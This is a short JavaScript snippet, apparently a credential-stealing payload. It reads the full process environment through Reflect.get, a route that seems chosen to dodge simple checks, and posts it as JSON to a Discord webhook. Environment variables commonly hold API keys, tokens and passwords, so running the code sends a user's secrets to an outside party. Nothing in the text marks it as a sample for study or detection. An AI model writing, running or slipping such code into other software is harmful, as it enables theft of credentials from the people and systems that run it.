const e = Reflect.get(process, 'env');
const https = require('https');
const req = https.request({hostname: 'discord.com', path: '/api/webhooks/123/abc', method: 'POST'});
req.write(JSON.stringify(e)); req.end();
